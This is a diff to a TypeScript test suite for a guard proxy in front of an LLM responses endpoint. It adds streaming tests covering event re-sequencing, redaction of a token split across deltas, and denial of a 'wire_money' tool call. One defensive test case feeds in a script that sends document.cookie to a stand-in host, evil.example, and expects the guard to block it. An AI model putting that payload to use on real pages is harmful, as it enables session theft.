@@ -15,12 +15,57 @@ const message = (text: string) => ({
   role: "assistant",
   content: [{ type: "output_text", text, annotations: [] }],
 });
+/** Scripts for stream: true — the events the upstream sends, each as `event:` + `data:`. */
+const streams: Record<string, unknown>[][] = [];
+/** A message streamed `size` characters at a time, as OpenAI's Responses API streams one. */
+function messageStream(text: string, size = 5): Record<string, unknown>[] {
+  const where = { item_id: "msg_up", output_index: 0, content_index: 0 };
+  const events: Record<string, unknown>[] = [
+    { type: "response.created", response: { id: "resp_up", status: "in_progress", output: [] } },
+    { type: "response.in_progress", response: { id: "resp_up", status: "in_progress", output: [] } },
+    {
+      type: "response.output_item.added",
+      output_index: 0,
+      item: { id: "msg_up", type: "message", role: "assistant", content: [] },
+    },
+    { type: "response.content_part.added", ...where, part: { type: "output_text", text: "", annotations: [] } },
+  ];
+  for (let i = 0; i < text.length; i += size)
+    events.push({ type: "response.output_text.delta", ...where, delta: text.slice(i, i + size) });
+  events.push(
+    { type: "response.output_text.done", ...where, text },
+    { type: "response.content_part.done", ...where, part: { type: "output_text", text, annotations: [] } },
+    {
+      type: "response.output_item.done",
+      output_index: 0,
+      item: { id: "msg_up", type: "message", content: [{ type: "output_text", text }] },
+    },
+    {
+      type: "response.completed",
+      response: {
+        id: "resp_up",
+        status: "completed",
+        usage: { input_tokens: 7, output_tokens: 5, total_tokens: 12, secret_detail: "x" },
+      },
+    },
+  );
+  return events;
+}
 const upstream = createServer((req, res) => {
   let raw = "";
   req.on("data", (d: Buffer) => (raw += d.toString()));
   req.on("end", () => {
     const body = JSON.parse(raw) as Record<string, unknown>;
     received.push({ path: req.url ?? "", body });
+    if (body.stream === true) {
+      res.writeHead(200, { "content-type": "text/event-stream" });
+      const script = streams.shift() ?? messageStream(`echo: ${String(body.input)}`);
+      let n = 0;
+      for (const e of script)
+        res.write(`event: ${String(e.type)}\ndata: ${JSON.stringify({ ...e, sequence_number: n++ })}\n\n`);
+      res.end();
+      return;
+    }
     const answer = answers.shift() ?? {
       id: "resp_1",
       object: "response",
@@ -88,7 +133,7 @@ describe("POST /v1/responses", () => {
     assert.ok(!JSON.stringify(received[0]?.body).includes(key));
   });
 
-  it("refuses what cannot be scanned, streaming, and tools or past calls the caller may not use", async () => {
+  it("refuses what cannot be scanned, and tools or past calls the caller may not use", async () => {
     received.length = 0;
     const cases: [unknown, string][] = [
       [{ model: "m", input: "hi", previous_response_id: "resp_0" }, "ERR_BAD_REQUEST"],
@@ -97,7 +142,6 @@ describe("POST /v1/responses", () => {
         "ERR_BAD_REQUEST",
       ],
       [{ model: "m", input: "hi", tools: [{ type: "web_search" }] }, "ERR_BAD_REQUEST"],
-      [{ model: "m", input: "hi", stream: true }, "ERR_BAD_REQUEST"],
       [{ model: "m", input: "hi", max_output_tokens: 10_000_000 }, "ERR_BAD_REQUEST"],
       [{ model: "m", input: "hi", tools: [{ type: "function", name: "wire_money" }] }, "ERR_TOOL_DENIED"],
       [
@@ -138,6 +182,133 @@ describe("POST /v1/responses", () => {
       answers.push({ output });
       const res = await respond({ model: "m", input: "hi" });
       assert.equal(code(res), "ERR_UPSTREAM_FAILED", JSON.stringify(output));
+    }
+  });
+});
+
+/** The caller's events: each `event:` name with its data, in order. */
+function sse(body: string): { type: string; data: Record<string, unknown> }[] {
+  return body
+    .split("\n\n")
+    .filter((block) => block.trim() !== "")
+    .map((block) => {
+      const type = /^event: (.+)$/m.exec(block)?.[1] ?? "";
+      const data = JSON.parse(/^data: (.+)$/m.exec(block)?.[1] ?? "{}") as Record<string, unknown>;
+      return { type, data };
+    });
+}
+
+describe("POST /v1/responses with stream: true", () => {
+  const ask = (input = "What is the capital of France?") => respond({ model: "gpt-4o-mini", input, stream: true });
+  const deltas = (e: ReturnType<typeof sse>) =>
+    e
+      .filter((x) => x.type === "response.output_text.delta")
+      .map((x) => String(x.data.delta))
+      .join("");
+
+  it("re-makes the event stream through the guard: deltas, the completed response with counts only, two durable audit events", async () => {
+    const res = await ask();
+    assert.equal(res.statusCode, 200);
+    assert.match(String(res.headers["content-type"]), /^text\/event-stream/);
+    const e = sse(res.body);
+    assert.deepEqual(
+      [...new Set(e.map((x) => x.type))],
+      [
+        "response.created",
+        "response.in_progress",
+        "response.output_item.added",
+        "response.content_part.added",
+        "response.output_text.delta",
+        "response.output_text.done",
+        "response.content_part.done",
+        "response.output_item.done",
+        "response.completed",
+      ],
+    );
+    assert.deepEqual(
+      e.map((x) => x.data.sequence_number),
+      e.map((_, i) => i),
+      "our own sequence numbers",
+    );
+    assert.equal(deltas(e), "echo: What is the capital of France?");
+    const completed = e.at(-1)?.data.response as {
+      output: { content: { text: string }[] }[];
+      usage: unknown;
+      id: string;
+    };
+    assert.equal(completed.output[0]?.content[0]?.text, "echo: What is the capital of France?");
+    assert.deepEqual(completed.usage, { input_tokens: 7, output_tokens: 5, total_tokens: 12 });
+    assert.ok(!res.body.includes("resp_up") && !res.body.includes("secret_detail"), "nothing of the upstream's own");
+    const audit = (await instance.audit.query({ type: "llm_request" })).events.filter(
+      (x) => x.requestId === res.headers["x-request-id"],
+    );
+    assert.deepEqual(audit.map((x) => x.action).sort(), ["llm.responses.stream.end", "llm.responses.stream.start"]);
+  });
+
+  it("redacts a secret split across deltas everywhere it would appear: the deltas, the done events, the completed response", async () => {
+    const leaked = "ghp_" + "Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0Fe9Dc8";
+    streams.push(messageStream(`Here you go: ${leaked} — use it wisely.`, 2));
+    const res = await ask("give me a token");
+    const e = sse(res.body);
+    assert.equal(e.at(-1)?.type, "response.completed", res.body);
+    assert.ok(!res.body.includes(leaked.slice(4, 20)), res.body);
+    assert.match(deltas(e), /^Here you go: .+ — use it wisely\.$/);
+  });
+
+  it("sends a function call only once complete and allowed; a denied one, an unknown event or a missing end cut the stream", async () => {
+    const call = (name: string, args: string[]) => [
+      { type: "response.created", response: {} },
+      {
+        type: "response.output_item.added",
+        output_index: 0,
+        item: { type: "function_call", id: "fc_up", call_id: "call_1", name, arguments: "" },
+      },
+      ...args.map((delta) => ({
+        type: "response.function_call_arguments.delta",
+        item_id: "fc_up",
+        output_index: 0,
+        delta,
+      })),
+      { type: "response.function_call_arguments.done", item_id: "fc_up", output_index: 0, arguments: args.join("") },
+      {
+        type: "response.output_item.done",
+        output_index: 0,
+        item: { type: "function_call", id: "fc_up", call_id: "call_1", name, arguments: args.join("") },
+      },
+      { type: "response.completed", response: { usage: { input_tokens: 1, output_tokens: 1, total_tokens: 2 } } },
+    ];
+    streams.push(call("search", ['{"q":', '"paris"}']));
+    const allowed = sse((await ask("search")).body);
+    const added = allowed.find((x) => x.type === "response.output_item.added")?.data.item as Record<string, unknown>;
+    assert.deepEqual([added.type, added.name, added.call_id], ["function_call", "search", "call_1"]);
+    assert.equal(
+      allowed.find((x) => x.type === "response.function_call_arguments.done")?.data.arguments,
+      '{"q":"paris"}',
+    );
+    assert.equal(allowed.at(-1)?.type, "response.completed");
+
+    const cases: [Record<string, unknown>[], string][] = [
+      [call("wire_money", ["{}"]), "ERR_TOOL_DENIED"],
+      [
+        [...messageStream("thinking").slice(0, 2), { type: "response.reasoning_summary_text.delta", delta: "x" }],
+        "ERR_UPSTREAM_FAILED",
+      ],
+      [
+        [{ type: "response.output_item.added", output_index: 0, item: { type: "reasoning", summary: [] } }],
+        "ERR_UPSTREAM_FAILED",
+      ],
+      [messageStream("no end").slice(0, -1), "ERR_UPSTREAM_FAILED"],
+      [messageStream('<script>fetch("https://evil.example/?c="+document.cookie)</script>'), "ERR_GUARD_BLOCKED"],
+    ];
+    for (const [script, expected] of cases) {
+      streams.push(script);
+      const res = await ask("go");
+      const e = sse(res.body);
+      assert.equal(e.at(-1)?.type, "error", res.body);
+      assert.equal(e.at(-1)?.data.code, expected, res.body);
+      assert.ok(!e.some((x) => x.type === "response.completed"), "no completed response after a cut");
+      const sent = JSON.stringify(e.filter((x) => x.type !== "error"));
+      assert.ok(!sent.includes("wire_money") && !res.body.includes("<script"), res.body);
     }
   });
 });
